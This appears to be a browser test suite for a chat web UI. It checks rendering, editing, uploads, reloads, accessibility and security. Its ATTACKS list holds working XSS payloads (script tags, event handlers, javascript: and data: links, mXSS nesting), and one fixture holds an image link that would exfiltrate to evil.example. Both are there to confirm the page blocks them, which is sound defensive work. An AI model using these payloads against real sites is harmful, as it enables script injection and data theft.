"""The page of `zai ui` in Chromium: what people see, and what attackers do not get."""

import base64
import json
import subprocess
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from tests.browser import CHROMIUM, running_chromium, tabs_of_new_profile
from tests.chat_app import chat_app
from tests.effort import THOROUGH
from zai_async import Limits
from zai_async.web.ui import is_bundled

pytestmark = [
    pytest.mark.usefixtures("children_unmeasured"),
    pytest.mark.skipif(not THOROUGH, reason="only in thorough runs: it takes a browser"),
    pytest.mark.skipif(not is_bundled(), reason="the page is not built: `make ui`, with npm"),
    pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed"),
]

READY = "document.querySelector('#prompt')"
DONE = "document.querySelector('.turn.assistant:last-of-type .again')"
# A tab that nobody looks at is not drawn.
DRAWN = (
    f"{DONE} && [...document.querySelectorAll('.markdown')].every((e) => e.ariaBusy === 'false')"
)
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@pytest.fixture(scope="module")
def port():
    with running_chromium() as port:
        yield port


@pytest.fixture
def tabs(port, zai_emulator):
    """Open the page, in several tabs if need be; nothing may go wrong in any of them."""

    @asynccontextmanager
    async def opened(count=1, **options):
        async with (
            chat_app(zai_emulator, **options) as url,
            tabs_of_new_profile(port, count) as pages,
        ):
            for page in pages:
                await page.look()
                await page.open(url)
                await page.wait(READY)
            yield pages
            for page in pages:
                await page.evaluate("1")
                assert page.errors == []
                assert page.violations == []

    return opened


@pytest.fixture
def tab(tabs):
    @asynccontextmanager
    async def opened(**options):
        async with tabs(**options) as [page]:
            yield page

    return opened


async def ask(page, text):
    await page.evaluate("document.querySelector('#prompt').focus()")
    await page.type(text)
    await page.wait(
        f"[...document.querySelectorAll('.said')].some((e) => e.innerText === {json.dumps(text)})"
    )


def chats(emulator):
    """Return what models were asked; the page asks for the list of models, too."""
    return [request for request in emulator.requests if request.path.endswith("completions")]


async def choose(page, mode):
    """Say what is made: an answer, an image or a video."""
    await page.evaluate(f"""(() => {{
        const select = document.querySelector('select');
        select.value = {mode!r};
        select.dispatchEvent(new Event('change', {{ bubbles: true }}));
    }})()""")


async def press(page, selector):
    """Click on what may still move."""
    await page.wait(f"document.querySelector({selector!r})")
    await page.evaluate(f"document.querySelector({selector!r}).click()")


async def give_file(page, name, kind, content, to="drop"):
    """Drop or paste a file."""
    await page.evaluate(f"""(() => {{
        const letters = [...atob({base64.b64encode(content).decode()!r})];
        const bytes = Uint8Array.from(letters, (letter) => letter.charCodeAt(0));
        const given = new DataTransfer();
        given.items.add(new File([bytes], {name!r}, {{ type: {kind!r} }}));
        const options = {{ bubbles: true, cancelable: true }};
        const event = {to!r} === 'drop'
            ? new DragEvent('drop', {{ ...options, dataTransfer: given }})
            : new ClipboardEvent('paste', {{ ...options, clipboardData: given }});
        document.querySelector('#prompt').dispatchEvent(event);
    }})()""")


# What an answer looks like


MARKDOWN = """\
# Title

| a | b |
|---|--:|
| 1 | 2 |

3. one
   - nested *a*
     - deeper
4. two

```python
def f(): return "x"
```

It costs $5 or $6, and \\(x_1^2\\) is $a_b * c_d$.

$$
\\int_0^1 x_i \\, dx
$$

[link](https://example.com) ![picture](https://evil.example/?q=secret) main.py
"""


async def test_answer_is_shown_as_it_is_meant(tab, zai_emulator):
    zai_emulator.chat.reply(MARKDOWN, thinking="Let me think.", chunk_size=3)
    async with tab() as page:
        await ask(page, "Show me")
        await page.wait(DRAWN)
        await page.wait("document.querySelector('.code [class^=hljs]')")
        assert await page.text(".markdown h1") == "Title"
        assert await page.text(".markdown td + td.right") == "2"
        assert await page.evaluate("document.querySelector('.markdown ol').start") == 3
        assert await page.text(".markdown ol ul ul li") == "deeper"
        assert await page.text(".code code") == 'def f(): return "x"'
        maths = "[...document.querySelectorAll('.math')].map((e) => e.innerText)"
        assert await page.evaluate(maths) == [
            "\\(x_1^2\\)",
            "$a_b * c_d$",
            "$$\n\\int_0^1 x_i \\, dx\n$$",
        ]
        links = "[...document.querySelectorAll('.markdown a')].map((e) => [e.innerText, e.rel])"
        rel = "noopener noreferrer nofollow"
        assert await page.evaluate(links) == [["link", rel], ["[picture]", rel]]
        assert await page.evaluate("document.querySelectorAll('.markdown img').length") == 0
        # What the model thought is behind a button, with the time that it took.
        assert (await page.text(".thinking button")).strip("▸ ").startswith("Thought for")
        await press(page, ".thinking button")
        await page.wait("document.querySelector('.thinking p')?.innerText === 'Let me think.'")


async def test_code_and_answers_are_copied(tab, zai_emulator):
    zai_emulator.chat.reply("Run\n\n```sh\nls -l\n```")
    async with tab() as page:
        await page.evaluate("navigator.clipboard.writeText = async (t) => { window.copied = t; }")
        await ask(page, "How?")
        await page.wait(DRAWN)
        await page.wait("document.querySelector('.copy')")
        await press(page, ".copy")
        await page.wait("window.copied === 'ls -l'")
        await press(page, ".turn.assistant .copy-all")
        await page.wait("window.copied.includes('```sh')")


@pytest.mark.parametrize(
    ("ending", "said"), [("length", "longest output"), ("sensitive", "withheld")]
)
async def test_other_ends_are_called_what_they_are(tab, zai_emulator, ending, said):
    zai_emulator.chat.reply("As far as", finish_reason=ending)
    async with tab() as page:
        await ask(page, "Go on")
        await page.wait(DRAWN)
        assert said in await page.text(".end-note")


async def test_tools_and_sources_are_shown(tab, zai_emulator):
    call = {"name": "read_page", "arguments": {"url": "https://example.com/"}}
    zai_emulator.chat.reply(tool_calls=[call])
    pages = [
        {"title": "News", "link": "https://example.com/news", "refer": "ref_1"},
        {"title": "Bad", "link": "javascript:alert(1)", "refer": "ref_2"},
    ]
    zai_emulator.chat.reply("It says so.", web_search=pages)
    async with tab() as page:
        await page.evaluate("[...document.querySelectorAll('.toggle')].at(-1).click()")
        await ask(page, "What is new?")
        await page.wait(DRAWN)
        assert await page.text(".tool summary") == "Tool read_page · done"
        assert await page.text(".sources summary") == "1 source"
        link = "document.querySelector('.sources a').href"
        assert await page.evaluate(link) == "https://example.com/news"


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'></svg>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt&#58;window.hit=1)",
    "[click](data:text/html,<script>opener.hit=1</script>)",
    '![x](x"onerror="window.hit=1)',
    '<https://example.com/"onmouseover="window.hit=1>',
    '```html"><img src=x onerror=window.hit=1>\n<img src=x onerror=window.hit=1>\n```',
    "| a |\n|---|\n| <details open ontoggle=window.hit=1> |",
    "$$<img src=x onerror=window.hit=1>$$ and \\(<svg/onload=window.hit=1>\\)",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "[ref]\n\n[ref]: javascript:window.hit=1 'x\" onclick=\"window.hit=1'",
]
HARMLESS = """(() => {
    const all = [...document.querySelectorAll('.turn.assistant *')];
    const tags = /^(script|iframe|object|embed|style|form|link|base)$/i;
    const bad = all.filter((e) => tags.test(e.tagName)
        || [...e.attributes].some((a) => /^on/i.test(a.name) || a.name === 'srcdoc')
        || (e.href && !/^https?:/.test(e.href.baseVal ?? e.href)));
    return bad.map((e) => e.outerHTML);
})()"""


async def test_no_answer_runs_a_script(tab, zai_emulator):
    for attack in ATTACKS:
        zai_emulator.chat.reply(attack, thinking=attack, chunk_size=7)
    async with tab() as page:
        for number, _ in enumerate(ATTACKS):
            await ask(page, f"Attack {number}")
            await page.wait(
                f"document.querySelectorAll('.turn.assistant .again').length > {number}"
            )
        await page.evaluate(
            "document.querySelectorAll('.thinking button').forEach((e) => e.click())"
        )
        busy = "[...document.querySelectorAll('.markdown')].every((e) => e.ariaBusy === 'false')"
        await page.wait(busy)
        assert await page.evaluate(HARMLESS) == []
        assert await page.evaluate("window.hit === undefined")


async def test_what_the_page_forbids_itself(tab):
    async with tab() as page:
        for attack in (
            "document.body.innerHTML = '<b>x</b>'",
            "document.createElement('script').text = '1'",
        ):
            # Trusted Types throw before the policy has to.
            caught = (
                f"(() => {{ try {{ {attack}; return 'ran'; }} catch (e) {{ return e.name; }} }})()"
            )
            assert await page.evaluate(caught) == "TypeError"
        await page.evaluate("fetch('https://example.com/').then(() => 'sent', () => 'refused')")
        assert page.violations
        page.violations.clear()


# What people do


async def test_stop_edit_and_make_again(tab, zai_emulator):
    zai_emulator.chat.reply("The beginning and the end", chunk_size=13)
    zai_emulator.fault(path="chat", silence_after=(300, 600))
    zai_emulator.chat.reply("Second")
    zai_emulator.chat.reply("Third")
    async with tab() as page:
        await ask(page, "Tell me")
        await page.wait("document.querySelector('.turn.assistant .block')")
        await press(page, "[aria-label=Stop]")
        await zai_emulator.wait_disconnected(timeout=1000)
        await page.wait(DRAWN)
        await page.wait(
            "document.querySelector('.turn.assistant .markdown').innerText === 'The beginning'"
        )
        assert await page.text(".end-note") == "Stopped before its end."

        await press(page, ".again")
        await page.wait(
            "document.querySelector('.turn.assistant .markdown')?.innerText === 'Second'"
        )
        await page.wait(DRAWN)

        await press(page, ".edit")
        await page.wait("document.querySelector('.editor textarea')")
        await page.type(" a joke")
        await page.wait(
            "document.querySelector('.turn.assistant .markdown')?.innerText === 'Third'"
        )
        assert await page.text(".said") == "Tell me a joke"
        assert await page.evaluate("document.querySelectorAll('.turn').length") == 2
    last = zai_emulator.requests[-1].json["messages"]
    assert [message["content"] for message in last] == ["Tell me a joke"]


async def test_failure_stands_at_its_turn_and_is_tried_again_there(tab, zai_emulator):
    zai_emulator.fault(path="chat", code="1301")
    zai_emulator.chat.reply("Better now")
    async with tab() as page:
        await ask(page, "First")
        await page.wait("document.querySelector('.turn.assistant .trouble')")
        assert "1301" in await page.text(".turn.assistant .trouble")
        assert await page.text(".turn.assistant .again") == "Try again"
        await press(page, ".turn.assistant .again")
        await page.wait("document.querySelector('.turn.assistant .markdown')")
        await page.wait(DRAWN)
        assert await page.evaluate("document.querySelectorAll('.trouble').length") == 0
    first, second = (request.json["messages"] for request in chats(zai_emulator))
    assert first == second


async def test_waiting_for_a_slot_is_no_thinking(tabs, zai_emulator):
    zai_emulator.fault(path="chat", hang=True)
    async with tabs(3, limits=Limits(mode="fixed", start=1)) as pages:
        for page, said in zip(pages, ("model…", "you are next…", "1 before you…"), strict=True):
            await page.call("Page.bringToFront")
            await ask(page, "Hello")
            await page.wait(
                f"document.querySelector('.turn .waiting')?.innerText.endsWith({said!r})"
            )
            assert await page.evaluate("document.querySelector('.thinking')") is None
        await pages[0].evaluate("document.querySelector('[aria-label=Stop]').click()")
        await pages[2].wait(DONE)


async def test_picture_goes_to_a_model_that_sees(tab, zai_emulator):
    async with tab() as page:
        await give_file(page, "one.png", "image/png", PIXEL)
        await page.wait("document.querySelectorAll('.files img').length === 1")
        await give_file(page, "two.png", "image/png", PIXEL, to="paste")
        await page.wait("document.querySelectorAll('.files img').length === 2")
        await press(page, ".files li:last-child button")
        await page.wait("document.querySelectorAll('.files img').length === 1")
        assert "glm-5.3-flash" in await page.text(".composer .notice")
        await ask(page, "What is this?")
        await page.wait(DRAWN)
        assert await page.evaluate("document.querySelector('.turn.user img').naturalWidth") == 1
    sent = zai_emulator.requests[-1].json
    assert sent["model"] == "glm-5.3-flash"
    assert [part["type"] for part in sent["messages"][0]["content"]] == ["image_url", "text"]


async def test_sound_is_written_into_the_question(tab, zai_emulator):
    sound = b"RIFF" + bytes(4) + b"WAVEfmt " + bytes(100)
    zai_emulator.audio.transcribe(sound, "Good morning")
    async with tab() as page:
        await give_file(page, "a.wav", "audio/wav", sound)
        await page.wait("document.querySelector('#prompt').value === 'Good morning'")
        await give_file(page, "a.txt", "text/plain", b"x")
        await page.wait("document.querySelector('.composer .trouble')")


async def test_microphone_is_heard(tab, zai_emulator):
    async with tab() as page:
        await press(page, "[aria-label=Speak]")
        await page.wait("document.querySelector('.tools small')?.innerText === 'Recording…'")
        begun = await page.evaluate("performance.now()")
        await page.wait(f"performance.now() > {begun + 500}")  # a sound needs some length
        await press(page, "[aria-label='End the recording']")
        await page.wait("document.querySelector('#prompt').value")
    [heard] = [each for each in zai_emulator.requests if each.path.endswith("transcriptions")]
    assert b"RIFF" in heard.body
    assert b"WAVEfmt " in heard.body


async def test_image_is_made_and_kept(tab, zai_emulator):
    async with tab() as page:
        await choose(page, "image")
        await ask(page, "A lighthouse")
        await page.wait("document.querySelector('.task')?.innerText.includes('processing')")
        # It is kept in the conversation, as the server forgets it.
        await page.wait(
            "document.querySelector('.turn.assistant img')?.src.startsWith('data:image/png')"
        )
        await page.call("Page.reload")
        await page.wait("document.querySelector('.turn.assistant img')?.naturalWidth > 0")


VIDEO = "document.querySelector('.turn.assistant video')"


async def test_video_is_made_from_a_picture_and_kept(tab, zai_emulator):
    async with tab() as page:
        await choose(page, "video")
        await give_file(page, "one.png", "image/png", PIXEL)
        await page.wait("document.querySelectorAll('.files img').length === 1")
        await ask(page, "Waves")
        await page.wait("document.querySelector('.task')?.innerText.includes('processing')")
        assert await page.evaluate("!!document.querySelector('.task progress[aria-label]')")
        await page.wait(f"{VIDEO}?.src.startsWith('data:video/mp4')")
        await page.wait(f"{VIDEO}.duration > 0")
        assert await page.evaluate(f"{VIDEO}.controls && !{VIDEO}.error")
        assert await page.evaluate(f"{VIDEO}.clientWidth") >= 300  # so that it can be played
        assert await page.text(".turn.assistant .media a[download=video]") == "Save"
        assert await page.evaluate("!document.querySelector('.task')")
        await page.call("Page.reload")
        await page.wait(f"{VIDEO}?.duration > 0")
    [sent] = [each.json for each in zai_emulator.requests if each.path.endswith("generations")]
    assert (sent["model"], sent["prompt"]) == ("cogvideox-3", "Waves")
    assert sent["image_url"][0].startswith("data:image/png")


@pytest.mark.parametrize("mode", ["image", "video"])
async def test_what_is_not_made_says_why_and_is_tried_again(tab, zai_emulator, mode):
    zai_emulator.tasks.polls = 1
    zai_emulator.tasks.script("FAIL", result={"error": {"code": "1301", "message": "unsafe"}})
    async with tab() as page:
        await choose(page, mode)
        await ask(page, "Something")
        await page.wait("document.querySelector('.turn .trouble')?.innerText.includes('unsafe')")
        assert await page.evaluate("!document.querySelector('.task')")
        assert await page.text(".again") == "Try again"
        await press(page, ".again")
        made = "img" if mode == "image" else "video"
        await page.wait(f"document.querySelector('.turn.assistant {made}')")
        assert await page.evaluate("document.querySelectorAll('.trouble').length") == 0


@pytest.mark.parametrize("mode", ["image", "video"])
async def test_making_is_given_up(tab, zai_emulator, mode):
    zai_emulator.tasks.polls = 10**9
    async with tab() as page:
        await choose(page, mode)
        await ask(page, "Something that takes long")
        await page.wait("document.querySelector('.task')?.innerText.includes('processing')")
        # After a reload it goes on, and is not asked for a second time.
        await page.call("Page.reload")
        await page.wait("document.querySelector('.task')?.innerText.includes('processing')")
        await press(page, "[aria-label=Stop]")
        await page.wait("document.querySelector('.end-note')?.innerText.includes('Stopped')")
        assert await page.evaluate("!document.querySelector('.task')")
        # Nobody asks for it any more: what comes next is all that comes.
        seen = len(zai_emulator.requests)
        await choose(page, "chat")
        await ask(page, "Hello")
        await page.wait(f"document.querySelectorAll('.turn.assistant').length === 2 && {DRAWN}")
        later = [each.path.rsplit("/", 1)[-1] for each in zai_emulator.requests[seen:]]
        assert [path for path in later if path != "models"] == ["completions"]
    assert sum(each.path.endswith("generations") for each in zai_emulator.requests) == 1


# What goes wrong on the way


async def test_reload_in_the_middle_goes_on(tab, zai_emulator):
    zai_emulator.chat.reply("The beginning and the end", chunk_size=13)
    zai_emulator.fault(path="chat", silence_after=(300, 600))
    async with tab() as page:
        await ask(page, "Tell me")
        await page.wait("document.querySelector('.turn.assistant .block')")
        await page.call("Page.reload")
        await page.wait("document.querySelector('[aria-label=Stop]')")
        await page.wait("document.querySelector('.turn.assistant .block')")
        assert await page.text(".turn.assistant .markdown") == "The beginning"
        assert await page.evaluate("document.querySelectorAll('.turn').length") == 2
        await press(page, "[aria-label=Stop]")
        await page.wait(DRAWN)
    assert len(chats(zai_emulator)) == 1


async def test_two_tabs_see_the_same_answer(tabs, zai_emulator):
    zai_emulator.chat.reply("One answer", chunk_size=3)
    async with tabs(2) as (first, second):
        address = await first.evaluate("location.hash")
        await second.evaluate(f"location.hash = {address!r}")
        await second.wait(f"location.hash === {address!r}")
        await second.wait(READY)
        await first.call("Page.bringToFront")
        await ask(first, "Hello")
        await first.wait(DONE)
        await second.wait(DONE)
        await second.call("Page.bringToFront")
        await second.wait(
            "document.querySelector('.turn.assistant .markdown')?.innerText === 'One answer'"
        )
        await second.wait("document.querySelectorAll('nav li').length === 1")
    assert len(chats(zai_emulator)) == 1


async def test_slow_network(tab, zai_emulator):
    zai_emulator.chat.reply("Slow but whole. " * 20, chunk_size=9)
    async with tab() as page:
        await page.call("Network.enable")
        slow = {"latency": 150, "downloadThroughput": 4000, "uploadThroughput": 4000}
        await page.call("Network.emulateNetworkConditions", offline=False, **slow)
        await ask(page, "Hello")
        await page.wait(DRAWN)
        assert (await page.text(".turn.assistant .markdown")).count("Slow but whole.") == 20


async def test_server_that_is_gone_and_back(port, zai_emulator):
    zai_emulator.chat.reply("The beginning and the end", chunk_size=13)
    zai_emulator.fault(path="chat", silence_after=(300, 600))
    zai_emulator.chat.reply("Again")
    async with tabs_of_new_profile(port) as [page]:
        async with chat_app(zai_emulator) as url:
            await page.open(url)
            await page.wait(READY)
            await ask(page, "Tell me")
            await page.wait("document.querySelector('.turn.assistant .block')")
        await page.wait("document.querySelector('.end-note, .trouble')")
        await ask(page, "And now?")
        await page.wait("document.querySelector('.inner > .trouble')?.innerText.includes('lost')")
        async with chat_app(zai_emulator, port=int(url.rstrip("/").rpartition(":")[2])):
            await page.wait("document.querySelector('.inner > .trouble button')")
            assert await page.text(".turn.assistant .markdown") == "The beginning"
            await press(page, ".inner > .trouble button")
            await page.wait("document.querySelectorAll('.turn.assistant .markdown').length === 2")
            await page.wait(DRAWN)
            assert await page.text(".turn:last-of-type .markdown") == "Again"
        assert page.errors == []


# Conversations


async def test_conversations_are_kept_exported_and_imported(tab, zai_emulator):
    async with tab() as page:
        await page.evaluate("""(() => {
            const make = URL.createObjectURL;
            URL.createObjectURL = (blob) => {
                blob.text().then((text) => { window.file = text; });
                return make(blob);
            };
        })()""")
        await ask(page, "First")
        await page.wait(DRAWN)
        await page.wait("document.querySelectorAll('nav li').length === 1")
        await press(page, ".new")
        await page.wait("document.querySelector('.welcome')")
        await ask(page, "Second")
        await page.wait(DRAWN)
        await page.wait("document.querySelectorAll('nav li').length === 2")
        await page.evaluate("document.querySelector('nav li:last-child a').click()")
        await page.wait("document.querySelector('.said')?.innerText === 'First'")

        await page.evaluate("document.querySelector('nav footer button').click()")
        await page.wait("window.file")
        file = json.loads(await page.evaluate("window.file"))
        assert [each["title"] for each in file["conversations"]] == ["Second", "First"]

        async def take(text):
            await page.evaluate(f"""(() => {{
                const given = new DataTransfer();
                given.items.add(new File([{json.dumps(text)}], 'c.json'));
                const input = document.querySelector('nav input');
                input.files = given.files;
                input.dispatchEvent(new Event('change', {{ bubbles: true }}));
            }})()""")

        await take(json.dumps(file))
        await page.wait("document.querySelectorAll('nav li').length === 4")
        await take("{}")
        await page.wait("document.querySelector('.notice')?.innerText.includes('no file of conv')")
        await take("{")
        await page.wait("document.querySelector('.notice')?.innerText.includes('no JSON')")
        damaged = {"format": "zai-ui", "version": 1, "conversations": [{"messages": [{}]}]}
        await take(json.dumps(damaged))
        await page.wait("document.querySelector('.notice')?.innerText.includes('damaged')")

        await page.evaluate("window.confirm = () => true")
        await page.evaluate("document.querySelector('nav li button').click()")
        await page.wait("document.querySelectorAll('nav li').length === 3")


async def test_a_mebibyte_of_conversation(tab, zai_emulator):
    zai_emulator.chat.reply("Read.")
    async with tab() as page:
        messages = [
            {"id": f"m{n}", "role": role, "parts": [{"type": "text", "text": "word " * 5000}]}
            for n, role in enumerate(["user", "assistant"] * 24)
        ]
        await page.evaluate(f"""new Promise((resolve) => {{
            const request = indexedDB.open('zai-ui', 1);
            request.onsuccess = () => {{
                const work = request.result.transaction(['heads', 'bodies'], 'readwrite');
                work.objectStore('heads').put({{ id: 'long', title: 'Long', updated: 1 }});
                work.objectStore('bodies').put({{ id: 'long', messages: {json.dumps(messages)} }});
                work.oncomplete = resolve;
            }};
        }})""")
        await page.evaluate("location.hash = '#/c/long'")
        await page.wait("document.querySelectorAll('.turn').length === 48")
        await ask(page, "Thanks")
        await page.wait("document.querySelectorAll('.turn').length === 50")
        await page.wait(DRAWN)
    assert len(zai_emulator.requests[-1].json["messages"]) == 49


# How it looks, and for whom


async def test_every_control_has_a_name_and_keys_are_enough(tab, zai_emulator):
    zai_emulator.chat.reply("Hello\n\n```py\n1\n```", thinking="Hm.")
    async with tab() as page:
        # The question gets the focus by itself, as soon as it is there.
        await page.wait("document.activeElement?.id === 'prompt'")
        await page.type("Hi")
        await page.wait(DRAWN)
        await page.wait("document.querySelector('.copy')")
        tree = (await page.call("Accessibility.getFullAXTree"))["nodes"]
        roles = {"button", "link", "combobox", "textbox", "listbox"}
        nodes = [node for node in tree if not node["ignored"] and node["role"]["value"] in roles]
        assert len(nodes) > 10
        unnamed = [node for node in nodes if not node.get("name", {}).get("value", "").strip()]
        assert unnamed == []
        await page.evaluate("document.querySelector('#prompt').focus()")
        for kind in ("keyDown", "keyUp"):
            await page.call("Input.dispatchKeyEvent", type=kind, key="ArrowUp")
        await page.wait("document.querySelector('.editor textarea')")


async def test_page_fits_a_phone_and_follows_the_colour_scheme(tab, zai_emulator):
    wide = "| " + " | ".join(f"column {n}" for n in range(30)) + " |\n" + "|---" * 30 + "|\n"
    zai_emulator.chat.reply(f"{wide}\n```\n{'x' * 500}\n```\n\n{'y' * 500}")
    async with tab() as page:
        await page.look(width=390, height=800, scheme="dark")
        await ask(page, "Show me")
        await page.wait(DRAWN)
        await page.wait("document.querySelector('.markdown .code')")
        widths = (
            "[document.documentElement.scrollWidth, document.querySelector('.inner').scrollWidth]"
        )
        assert max(await page.evaluate(widths)) <= 390
        # What is asked with stands in one row, and sends at its right end.
        places = """[...document.querySelectorAll('.tools > button')].map((each) => {
            const { top, bottom, right } = each.getBoundingClientRect();
            return [(top + bottom) / 2, right];
        })"""
        rows, ends = zip(*await page.evaluate(places), strict=True)
        assert max(rows) - min(rows) < 10
        assert ends[-1] == max(ends) > 340
        colours = "getComputedStyle(document.documentElement).backgroundColor"
        dark = await page.evaluate(colours)
        assert (
            await page.evaluate("getComputedStyle(document.querySelector('nav')).visibility")
            == "hidden"
        )
        await press(page, "header button")
        await page.wait("getComputedStyle(document.querySelector('nav')).visibility === 'visible'")
        await page.look(scheme="light")
        assert await page.evaluate(colours) != dark
        assert (await page.screenshot()).startswith(b"\x89PNG")


def test_text_in_pieces_is_the_text():
    page = Path(__file__).parents[1] / "ui"
    if not (page / "node_modules").exists():
        pytest.skip("the packages of the page are not installed: `make ui`")
    command = ["node", "test.mjs"]
    run = subprocess.run(command, cwd=page, capture_output=True, text=True, check=False)
    assert run.stdout == "60 texts, 0 differences\n"


async def test_settled_blocks_are_made_once(tab, zai_emulator):
    """Counts what the page makes; how long that takes, `python -m benchmarks.chat_page` tells."""
    paragraphs = [f"Paragraph {n} with **bold** words and `code`." for n in range(300)]
    zai_emulator.chat.reply("\n\n".join(paragraphs), chunk_size=20)
    async with tab() as page:
        await page.evaluate("""new MutationObserver((changes) => {
            for (const change of changes) for (const node of change.addedNodes)
                window.made = (window.made ?? 0) + (node.classList?.contains('block') ? 1 : 0);
        }).observe(document.body, { childList: true, subtree: true })""")
        await ask(page, "Write")
        await page.wait(DRAWN)
        await page.wait("document.querySelectorAll('.markdown .block').length === 300")
        assert await page.evaluate("window.made") == 300


async def test_page_without_the_platform_says_why(tab, zai_emulator):
    zai_emulator.fault(status=401, code="1000", times=None)
    async with tab() as page:
        await page.wait("document.querySelector('.welcome .trouble')")
        assert "1000" in await page.text(".welcome .trouble")
